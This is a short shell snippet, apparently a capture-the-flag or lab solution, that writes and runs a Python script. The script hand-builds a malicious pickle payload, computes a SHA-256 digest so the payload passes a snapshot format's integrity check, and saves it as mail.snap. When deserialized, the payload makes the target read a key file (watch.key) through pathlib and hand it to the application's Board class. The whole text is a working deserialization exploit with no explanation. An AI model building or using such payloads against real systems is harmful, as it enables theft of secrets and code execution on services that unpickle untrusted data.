cat > make.py <<'P'
import hashlib
def text(s): s = s.encode(); return b"\x8c" + bytes([len(s)]) + s
def name(module, path): return text(module) + text(path) + b"\x93"
# Board(Path("watch.key").read_text()), by the names that records has imported.
path = name("records", "pathlib.Path") + text("watch.key") + b"\x85R"
told = name("records", "pathlib.Path.read_text") + path + b"\x85R"
body = b"\x80\x04" + name("records", "Board") + told + b"\x85R."
open("mail.snap", "wb").write(b"HSNAP2\n" + hashlib.sha256(body).hexdigest().encode() + b"\n" + body)
P
python3 make.py && echo mail.snap
